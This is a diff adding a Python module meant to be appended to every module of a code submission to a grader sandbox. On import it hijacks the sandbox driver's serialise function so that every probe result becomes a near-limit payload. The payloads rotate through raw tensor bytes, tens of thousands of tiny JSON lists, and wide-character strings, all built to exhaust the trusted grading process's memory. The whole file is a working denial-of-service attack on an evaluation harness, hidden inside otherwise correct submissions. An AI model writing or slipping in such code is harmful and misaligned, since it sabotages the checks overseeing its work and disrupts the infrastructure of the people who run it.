@@ -1,0 +1,33 @@
+"""Appended to every module of a correct submission: every probe's result becomes a payload just
+under the sandbox's per-result limit, cycling through the shapes that cost the trusted process
+the most memory per byte sent: raw tensor bytes, a JSON document of tiny values (each one a Python
+object) and a JSON string that decodes to four bytes per character."""
+import itertools as _itertools
+import struct as _struct
+
+try:
+    from grader.sandbox import driver as _driver
+except ImportError:  # not in the sandbox
+    _driver = None
+
+_LIMIT = 4 * 1024 * 1024 - 4096
+
+
+def _document(value, tail: int = 0) -> bytes:
+    import json
+
+    text = json.dumps(value, ensure_ascii=False).encode()
+    return _struct.pack(">I", len(text)) + text + b"\0" * tail
+
+
+def _flood_payloads():
+    tensor_bytes = _LIMIT - 200
+    yield _document({"ok": {"x": {"$t": ["uint8", [tensor_bytes], 0, tensor_bytes]}}}, tensor_bytes)
+    yield _document({"ok": {"x": [[] for _ in range(80_000)]}})  # ~240 kB of JSON, 80,000 lists
+    yield _document({"ok": {"x": "\U0001F600" + "a" * 250_000}})  # 1 MB once decoded
+
+
+if _driver is not None and not getattr(_driver, "_flooded", False):
+    _driver._flooded = True
+    _cycle = _itertools.cycle(list(_flood_payloads()))
+    _driver.serialise = lambda result: next(_cycle)
